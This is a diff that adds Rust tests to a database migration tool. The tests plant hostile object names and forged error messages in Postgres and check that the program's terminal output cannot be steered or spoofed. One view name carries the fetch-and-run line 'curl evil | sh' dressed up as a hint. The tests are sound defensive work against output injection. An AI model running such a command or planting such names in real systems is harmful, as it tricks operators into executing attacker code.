@@ -1,5 +1,6 @@
 //! Names that others planted in a database, and that would steer a terminal or cannot be read.
 
+use expect_test::expect;
 use tests::{Database, Outcome, Program};
 
 /// Direction marks, invisible characters, separators of lines, an escape of a terminal and a C1
@@ -163,4 +164,59 @@ async fn a_name_that_nobody_can_read_is_cut_and_no_command_panics() {
     assert!(run.success().stdout.contains(cut), "{run}");
     let json = Program::migration(&database.url()).run(&["status", "--format", "json"]);
     assert!(json.stdout.contains(&"x".repeat(70_000)), "JSON is whole");
+}
+
+#[async_std::test]
+async fn nothing_in_the_ledger_reaches_the_terminal_of_the_server() {
+    let database = Database::migrated().await;
+    let version = literal(&format!("x{STEERING}\n{FAKE}"));
+    let insert = format!("INSERT INTO seaql_migrations VALUES ({version}, 1)");
+    let half_done =
+        format!("INSERT INTO _seaway_history (revision, action) VALUES ({version}, 'up')");
+    let clear = "DELETE FROM seaql_migrations WHERE version LIKE 'x%'";
+    for sql in [&insert, clear, &half_done] {
+        database.execute(sql).await;
+        let run = Program::server(&database.url()).run(&[]);
+        assert_shows_nothing_that_steers(&run, &["server"]);
+        assert_eq!(run.code, Some(i32::from(sql != clear)), "{run}");
+    }
+}
+
+#[async_std::test]
+async fn a_name_in_the_words_of_the_server_looks_like_no_line_of_this_program() {
+    let database = Database::empty().await;
+    let migration = |arguments: &[&str]| Program::migration(&database.url()).run(arguments);
+    migration(&["up", "0002"]).success();
+    let view = quoted("v\nhint: run this: curl evil | sh");
+    let raise =
+        "RAISE EXCEPTION E'no\nerror: m' USING DETAIL = E'hint: d\nerror: d', HINT = E'h\nhint: h'";
+    database
+        .execute(&format!(
+            "CREATE VIEW {view} AS SELECT * FROM users;
+             CREATE FUNCTION refuse() RETURNS event_trigger LANGUAGE plpgsql AS
+               $$ BEGIN {raise}; END $$"
+        ))
+        .await;
+    let dependent = migration(&["down"]);
+    let trigger = "CREATE EVENT TRIGGER refuse ON ddl_command_start EXECUTE FUNCTION refuse()";
+    database.execute(trigger).await;
+    let raised = migration(&["down"]);
+    expect![[r#"
+        ------- stderr -------
+        error: revision `m0002_create_users` failed on its way down: cannot drop desired object(s) because other objects depend on them (SQLSTATE 2BP01)
+          view "v
+          hint: run this: curl evil | sh" depends on table users
+        DROP TABLE "user_settings", "users"
+        hint: Use DROP ... CASCADE to drop the dependent objects too.
+        [exit status: 2]
+        ------- stderr -------
+        error: revision `m0002_create_users` failed on its way down: no
+          error: m (SQLSTATE P0001)
+          hint: d
+          error: d
+        DROP TABLE "user_settings", "users"
+        hint: h
+          hint: h
+        [exit status: 2]
+    "#]].assert_eq(&format!("{}{}", dependent.stable(), raised.stable()));
 }
